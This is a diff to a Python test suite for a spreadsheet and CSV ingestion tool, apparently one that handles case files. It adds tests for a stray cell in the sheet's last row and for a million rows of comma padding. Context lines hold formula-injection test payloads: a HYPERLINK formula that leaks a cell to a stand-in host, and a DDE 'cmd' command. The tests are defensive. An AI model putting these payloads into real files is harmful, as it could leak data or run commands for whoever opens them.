@@ -624,6 +624,17 @@ def make_far_corner(folder: Path) -> Path:
     return case_file(folder, [("police.xlsx", "Police")])
 
 
+def make_stray_row(folder: Path) -> Path:
+    far = '<row r="1048576"><c r="B1048576" t="inlineStr"><is><t>stray note</t></is></c></row>'
+    raw_xlsx(folder / "police.xlsx", [("Chronology", CHRON)], after=far)
+    return case_file(folder, [("police.xlsx", "Police")])
+
+
+def check_stray_row(events: pd.DataFrame) -> None:
+    assert events["source_row"].tolist() == [2, 3, 1048576]
+    assert events["description"][1] == "Call\nstray note"
+
+
 FORMULAS = [
     '=HYPERLINK("http://example.invalid/?leak="&A2,"Click")',
     "+cmd|' /C calc'!A0",
@@ -743,6 +754,8 @@ ENTRIES: list[Entry] = [
     Entry("unclosed_quote", "A quote opened and never closed (it would swallow the rest of the file)",
           one_file("gp.csv", 'Date,Details\n01/02/2019,"Said ""no\n02/02/2019,Visit\n03/02/2019,Call\n'),
           Refused("never closed", ("gp.csv", "row 2", "column 'B'")), "the row and column where the quote opens"),
+    Entry("padding_rows", "A million empty rows of commas after the table (an export's padding)",
+          one_file("gp.csv", SIMPLE_CSV + ",,,\r\n" * 1_000_000), Read(2, 2), "read at once; the padding ignored"),
     Entry("duplicate_columns", "Duplicate column names", make_duplicates, Read(1, 1, check=check_duplicates),
           "every cell kept; repeats named \"Details (2)\" in raw"),
     Entry("ten_thousand_columns", "10,000 columns", make_wide, Read(3, 3, check=check_wide),
@@ -793,6 +806,8 @@ ENTRIES: list[Entry] = [
     Entry("far_corner", "A stray cell at XFD1048576 (the reader would allocate 17 billion cells)",
           make_far_corner, Refused("as far as XFD1048576", ("police.xlsx", "sheet 'Chronology'")),
           "refused, naming the sheet and the far cell", no_reader=True),
+    Entry("stray_row", "A stray note in the sheet's last row (1,048,576), far below the table", make_stray_row,
+          Read(3, 2, 0, check=check_stray_row), "kept, as a continuation of the last entry (its row named)"),
     Entry("formula_text", "Cells that are spreadsheet formulas (`=HYPERLINK(...)`, `+cmd|...`)",
           make_formula_text, Read(3, 3, check=check_formula_text),
           "kept verbatim; neutralised in every export", merge=True, after_merge=check_workbook_has_no_formulas),
